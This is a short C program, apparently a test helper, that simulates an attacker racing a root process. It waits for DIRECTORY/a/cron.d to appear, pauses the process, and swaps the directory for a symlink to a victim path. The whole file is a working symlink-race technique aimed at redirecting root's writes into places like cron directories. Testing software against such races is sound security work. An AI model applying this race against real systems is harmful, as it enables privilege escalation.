/* Plays the owner of an output directory, who replaces a directory that root makes there.
 * output_racer DIRECTORY VICTIM USER PID: waits until DIRECTORY/a/cron.d exists, stops process PID, which makes it,
 * becomes USER, replaces DIRECTORY/a by a link to VICTIM, and lets PID go on. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 5) return 64;
  uid_t user = (uid_t)atoi(argv[3]);
  pid_t process = atoi(argv[4]);
  char made[4096], first[4096], aside[4096];
  struct stat status;
  snprintf(made, sizeof made, "%s/a/cron.d", argv[1]);
  snprintf(first, sizeof first, "%s/a", argv[1]);
  snprintf(aside, sizeof aside, "%s/aside", argv[1]);
  while (lstat(made, &status) != 0)
    if (kill(process, 0) != 0) return 1;
  kill(process, SIGSTOP);
  if (seteuid(user) != 0 || rename(first, aside) != 0 || symlink(argv[2], first) != 0) perror(first);
  if (seteuid(0) != 0) return 70;
  kill(process, SIGCONT);
  return 0;
}
